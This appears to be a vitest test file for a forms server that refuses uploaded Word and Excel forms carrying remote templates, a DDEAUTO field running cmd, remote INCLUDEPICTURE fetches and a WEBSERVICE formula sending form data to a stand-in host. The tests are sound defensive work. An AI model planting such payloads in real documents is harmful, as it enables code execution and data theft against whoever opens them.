import { expect, test } from "vitest";
import { openForm } from "#formats/forms/form-parts.ts";
import { packed, papersForm, patentsForm } from "#tests/support/files/forms/blank-files.ts";
import { theWorld } from "#tests/support/server/world.ts";

const world = await theWorld();
const admin = world.as(world.admin);
const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

async function withPart(bytes: Uint8Array, name: string, content: string): Promise<Buffer> {
  const { parts } = await openForm(bytes);
  const kept = [...parts].map(([part, own]) => [part, Buffer.from(own)] as const);
  return packed({ ...Object.fromEntries(kept), [name]: content });
}

const relation = (type: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="rId90" Type="${types}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const reads = (bytes: Buffer, name: string) =>
  admin.upload("POST", "/api/forms/reading", [{ field: "file", name, type: "application/octet-stream", bytes }], {});

const word = await patentsForm();
const excel = await papersForm();
const settings = "word/_rels/settings.xml.rels";

test.each([
  ["a template from the web", word, settings, relation("attachedTemplate", "https://elsewhere.example/t.dotm")],
  ["a template on another computer", word, settings, relation("attachedTemplate", "file:///\\\\elsewhere\\t.dotm")],
  ["a relation in single quotes", word, settings, relation("attachedTemplate", "//e/t.dotm").replaceAll('"', "'")],
  ["a picture from the web", word, "word/_rels/header1.xml.rels", relation("image", "http://elsewhere.example/a.png")],
  ["an object by another name", word, "word/_rels/footer1.xml.rels", relation("oleObject", "other/a.bin", "Internal")],
  ["a field that runs a program", word, "word/header1.xml", '<w:instrText>DDEAUTO cmd "/k calc"</w:instrText>'],
  [
    "a field that fetches, in pieces",
    word,
    "word/header1.xml",
    "<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://elsewhere.example</w:instrText>",
  ],
  ["a simple field that fetches", word, "word/header1.xml", '<w:fldSimple w:instr=" IncludeText a.docx "/>'],
  [
    "a formula that sends what is filled in",
    excel,
    "xl/worksheets/sheet2.xml",
    '<x:f>_xlfn.WEBSERVICE("http://elsewhere.example/?"&amp;Form!A5)</x:f>',
  ],
  ["a relation in two bytes a sign", word, settings, Buffer.from("<R/>", "utf16le").toString()],
  ["data from elsewhere", excel, "xl/_rels/other.xml.rels", relation("connections", "connections.xml", "Internal")],
])("a form with %s is refused, also as a shared file", async (_name, blank, part, content) => {
  const bytes = await withPart(blank, part, content);
  const refused = await reads(bytes, "form").answers<{ issues: { message: string }[] }>(422);
  expect(refused.issues[0]?.message).toMatch(/links to other files|cannot be read/);
  const shared = { format: "fpms-form", answers: {}, fileName: "form", file: bytes.toString("base64") };
  await admin
    .upload("POST", "/api/forms/shared", [
      { field: "file", name: "form.json", type: "application/json", bytes: Buffer.from(JSON.stringify(shared)) },
    ])
    .answers(422);
});

test.each([
  ["a link to click", word, "word/_rels/header1.xml.rels", relation("hyperlink", "https://ministry.example")],
  [
    "the template of whoever wrote it",
    word,
    settings,
    relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
  ],
  ["the number of a page", word, "word/footer1.xml", "<w:instrText> PAGE \\* MERGEFORMAT </w:instrText>"],
])("a form with %s is accepted", async (_name, blank, part, content) => {
  await reads(await withPart(blank, part, content), "form").answers(200);
});
